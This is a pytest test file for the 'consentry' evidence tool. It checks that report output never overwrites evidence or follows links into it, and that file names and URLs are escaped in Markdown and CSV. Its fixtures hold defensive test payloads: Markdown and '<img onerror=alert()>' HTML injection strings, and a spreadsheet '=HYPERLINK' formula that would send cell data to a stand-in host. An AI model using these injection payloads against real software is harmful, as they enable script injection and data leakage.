"""Issue 18.1: no writing command writes into evidence, and none overwrites a file unless told.

``consentry report --out SRC/person/photo.jpg`` replaced an evidence JPEG (exit 0) and wrote a
``.sha256`` beside it; hash packs and notices landed in a source folder the same way. Every
output path now goes through ``output_guard``: inside a source (or through a link into one) is
one-line error, exit 2, and nothing is written; an existing file needs ``--force``.
"""

from __future__ import annotations

import hashlib
import os
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from consentry.cli.main import main
from consentry.records.text_safety import markdown_escaped
from consentry.store.output_guard import OutputGuard, UnsafeOutput

from .security_case import build_case, cli

# issue 18.5: a file name that added a table row, a heading and HTML to the disposal schedule
INJECTION = "a`|b\n## Fake heading\n| 99 | fake | row |<img src=x onerror=alert(1)>.jpg"


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Path, str]]:
    root = tmp_path_factory.mktemp("outsafe")
    case_dir, evidence, codes = build_case(root, {0: [f"Avery_Lane/{INJECTION}"]})
    yield case_dir, evidence, codes["Avery Lane"]


def tree(folder: Path) -> dict[str, str]:
    """Every entry below ``folder`` with the SHA-256 of its bytes (links by their target)."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            if p.is_symlink():
                out[str(p)] = "link:" + os.readlink(p)
            elif p.is_file():
                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def report(case: Path, fmt: str, out: Path, *extra: str) -> tuple[int, str]:
    result = CliRunner().invoke(
        main,
        ["report", "--case", str(case), "--format", fmt, "--out", str(out), "--reverify", "none",
         *extra],
    )  # fmt: skip
    return result.exit_code, result.output


@pytest.mark.parametrize(
    ("fmt", "target", "person"),
    [
        ("json", "Avery_Lane/amateur_selfie.jpg", False),  # over an evidence photo
        ("html", "Avery_Lane/new-report.html", False),  # a new file in a source folder
        ("csv", "report.csv", False),
        ("hashpack", "Avery_Lane/pack", True),
        ("notice", "notices", True),
    ],
)
def test_report_refuses_an_output_inside_a_source(
    scanned: tuple[Path, Path, str], fmt: str, target: str, person: bool
) -> None:
    case, evidence, code = scanned
    before = tree(evidence)
    args = ("--person", code) if person else ()
    exit_code, output = report(case, fmt, evidence / target, *args)
    assert exit_code == 2, output
    assert "inside source" in output and "evidence" in output
    assert len(output.strip().splitlines()) == 1, output
    assert tree(evidence) == before  # nothing written, nothing replaced, no .sha256


def test_report_refuses_a_path_that_resolves_into_a_source_through_a_link(
    scanned: tuple[Path, Path, str], tmp_path: Path
) -> None:
    case, evidence, code = scanned
    before = tree(evidence)
    (tmp_path / "innocent").symlink_to(evidence / "Avery_Lane")  # a folder link into evidence
    (tmp_path / "photo-link.json").symlink_to(evidence / "Avery_Lane" / "amateur_selfie.jpg")
    (tmp_path / "dangling.json").symlink_to(evidence / "Avery_Lane" / "not-yet.json")
    for out in ("innocent/r.json", "photo-link.json", "dangling.json"):
        exit_code, output = report(case, "json", tmp_path / out, "--force")
        assert exit_code == 2 and "inside source" in output, (out, output)
    exit_code, output = report(case, "hashpack", tmp_path / "innocent", "--person", code)
    assert exit_code == 2 and "inside source" in output, output
    assert tree(evidence) == before


def test_existing_files_need_force_and_a_link_is_replaced_not_written_through(
    scanned: tuple[Path, Path, str], tmp_path: Path
) -> None:
    case, _evidence, code = scanned
    out = tmp_path / "r.json"
    assert report(case, "json", out)[0] == 0
    first = out.read_bytes()
    exit_code, output = report(case, "json", out)
    assert exit_code == 2 and "exists" in output and "--force" in output, output
    assert out.read_bytes() == first
    assert report(case, "json", out, "--force")[0] == 0
    assert out.read_text().startswith("{") and (tmp_path / "r.json.sha256").exists()
    # a link outside evidence: --force replaces the link, the file it pointed to is untouched
    victim = tmp_path / "keep.txt"
    victim.write_text("keep me")
    link = tmp_path / "l.json"
    link.symlink_to(victim)
    assert report(case, "json", link)[0] == 2
    assert report(case, "json", link, "--force")[0] == 0
    assert not link.is_symlink() and victim.read_text() == "keep me"
    # folder formats: a second run into the same folder needs --force too
    pack = tmp_path / "pack"
    assert report(case, "hashpack", pack, "--person", code)[0] == 0
    exit_code, output = report(case, "hashpack", pack, "--person", code)
    assert exit_code == 2 and "exists" in output, output
    assert report(case, "hashpack", pack, "--person", code, "--force")[0] == 0
    notices = tmp_path / "notices"
    assert report(case, "notice", notices, "--person", code)[0] == 0
    assert report(case, "notice", notices, "--person", code)[0] == 2  # the disposal schedule
    assert report(case, "notice", notices, "--person", code, "--force")[0] == 0


def test_report_never_writes_over_the_cases_own_records(scanned: tuple[Path, Path, str]) -> None:
    case, _evidence, _code = scanned
    store = (case / "case.sqlite").read_bytes()
    exit_code, output = report(case, "json", case / "case.sqlite", "--force")
    assert exit_code == 2 and "own records" in output, output
    assert (case / "case.sqlite").read_bytes() == store


def test_links_refuses_a_case_folder_that_resolves_into_a_source(
    scanned: tuple[Path, Path, str], tmp_path: Path
) -> None:
    case, evidence, _code = scanned
    guard = OutputGuard.of([os.fsencode(evidence)], evidence / "moved-case")
    with pytest.raises(UnsafeOutput, match="inside source"):
        guard.check_case_folder()
    OutputGuard.of([os.fsencode(evidence)], case).check_case_folder()  # the real one is fine
    cli("links", "--case", case, "--json")


def test_guard_unit_rules(tmp_path: Path) -> None:
    src = tmp_path / "src"
    (src / "a").mkdir(parents=True)
    (tmp_path / "out").mkdir()
    single = tmp_path / "one.zip"
    single.write_bytes(b"PK")
    guard = OutputGuard.of([os.fsencode(src), os.fsencode(single)])
    assert guard.source_of(src / "a" / "x") == str(src)
    assert guard.source_of(single) == str(single)  # a source that is one file
    assert guard.source_of(tmp_path / "src2" / "x") is None  # a sibling with the same prefix
    assert guard.source_of(tmp_path / "out" / "x") is None
    guard.write_text(tmp_path / "out" / "x", "1")
    with pytest.raises(UnsafeOutput, match="exists"):
        guard.write_text(tmp_path / "out" / "x", "2")
    with pytest.raises(UnsafeOutput, match="folder"):
        guard.check(tmp_path / "out")


def test_disposal_schedule_and_notice_escape_file_names_and_urls(
    scanned: tuple[Path, Path, str], tmp_path: Path
) -> None:
    markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py (Rich's) is absent")
    case, evidence, code = scanned
    out = tmp_path / "n"
    url = "https://pics.example/p/1|x<img src=y onerror=alert(2)>`## z`"
    # --show-paths: the real (hostile) names, as a court's schedule may need them, escaped
    exit_code, output = report(case, "notice", out, "--person", code, "--url", url, "--show-paths")
    assert exit_code == 0, output
    (schedule,) = out.glob("disposal-schedule-*.md")
    text = schedule.read_text()
    copies = len(list(csv_rows(out)))
    assert copies >= 2
    # the Markdown: one line per copy in the table, no heading but the title, no raw HTML
    rows = [line for line in text.splitlines() if line.startswith("| ") and "---" not in line]
    assert len(rows) == copies + 1  # + the header row
    assert [line for line in text.splitlines() if line.startswith("#")] == [text.splitlines()[0]]
    assert "<img" not in text.replace("\\<img", "")
    md = markdown_it.MarkdownIt("commonmark").enable("table")
    html = md.render(text)
    assert html.count("<tr>") == copies + 1 and html.count("<h1>") == 1
    assert "<h2" not in html and "<img" not in html
    assert all(re.fullmatch("[0-9a-f]+", c) for c in re.findall("<code>(.*?)</code>", html))
    assert "a`|b\\x0a## Fake heading\\x0a| 99 | fake | row |&lt;img" in html  # literal text
    (notice,) = out.glob("notice-*.md")
    notice_html = md.render(notice.read_text())
    assert "<img" not in notice_html and notice_html.count("<h1>") == 1
    assert "1|x&lt;img src=y onerror=alert(2)&gt;`## z`" in notice_html


def csv_rows(folder: Path) -> list[dict[str, str]]:
    import csv

    (path,) = folder.glob("disposal-schedule-*.csv")
    with path.open(newline="") as fh:
        return list(csv.DictReader(fh))


def test_markdown_escaped_unit() -> None:
    assert markdown_escaped("a|b") == "a\\|b"
    assert markdown_escaped("`x`") == "\\`x\\`"
    assert markdown_escaped("x\n## y") == "x\\\\x0a\\#\\# y"
    assert markdown_escaped("<img>") == "\\<img\\>"
    assert markdown_escaped("1. a") == "1\\. a" and markdown_escaped("- a") == "\\- a"
    assert markdown_escaped("IMG_0042.jpg") == "IMG\\_0042.jpg"


def test_csv_cells_never_start_a_formula() -> None:
    """CSV injection: a file named ``=HYPERLINK(...)`` must reach a spreadsheet as text, in
    every CSV consentry writes (the file list, the hash pack, the disposal schedule)."""
    import csv
    import dataclasses
    import io

    from consentry.records.text_safety import spreadsheet_safe
    from consentry.reports import hashpack, notice

    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    assert spreadsheet_safe(evil) == "'" + evil
    assert spreadsheet_safe("@SUM(A1)").startswith("'") and spreadsheet_safe("ok.jpg") == "ok.jpg"
    packed = hashpack.PackedImage("a" * 64, "b" * 32, None, None, 1, (evil,))
    pack_rows = list(csv.reader(io.StringIO(hashpack._csv([packed], include_names=True))))
    fields = {f.name for f in dataclasses.fields(notice.NoticeItem)}
    values = {f: None for f in fields} | {
        "sha256": "a" * 64,
        "md5": "b" * 32,
        "pdq": None,
        "locations": (evil,),
    }
    item = notice.NoticeItem(**values)  # type: ignore[arg-type]
    schedule_rows = list(csv.reader(io.StringIO(notice.disposal_csv((item,)))))
    cells = [c for row in pack_rows[1:] + schedule_rows[1:] for c in row]
    assert evil not in cells and "'" + evil in " ".join(cells)
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
